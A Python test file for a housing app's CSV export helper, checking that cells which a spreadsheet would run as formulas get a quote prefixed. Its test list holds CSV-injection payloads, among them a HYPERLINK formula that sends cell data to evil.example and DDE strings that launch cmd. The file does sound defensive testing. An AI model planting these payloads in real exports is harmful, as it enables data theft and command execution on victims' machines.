"""The one CSV helper every export goes through: text that a spreadsheet would run as a formula
gets a quote in front; numbers stay numbers. The exports themselves are tested over HTTP in
their apps (casussen, analytics) and through their commands (score, import)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import duckdb
import pytest

from goedwonen.core.exports import FORMULA_START, csv_cell, csv_response, sql_neutralised

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_a_quote_in_front(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Carnisse 10: overbewoning", "", "'al tekst", " =1", "a=1"])
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


def test_numbers_stay_numbers_with_a_decimal_comma():
    assert [csv_cell(v) for v in (-3, 0, 12, Decimal("-0.125"), Decimal("1.500"), None)] == [
        "-3",
        "0",
        "12",
        "-0,125",
        "1,500",
        "",
    ]
    with pytest.raises(TypeError):
        csv_cell(1.5)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        csv_cell(True)


def test_a_response_is_a_semicolon_file_with_a_byte_order_mark():
    response = csv_response("x.csv", ["titel", "aantal"], [["=1+1", 3], ["gewoon; met", -1]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    assert rows == [["titel", "aantal"], ["'=1+1", "3"], ["gewoon; met", "-1"]]


def test_the_sql_expression_follows_the_same_rule():
    texts = [*HOSTILE, "Carnisse 10", "", "'x", " =1", *FORMULA_START]
    expression = sql_neutralised("t")
    found = duckdb.execute(
        f"SELECT list_transform(?::VARCHAR[], lambda t: {expression})", [texts]
    ).fetchone()
    assert found is not None and found[0] == [csv_cell(t) for t in texts]
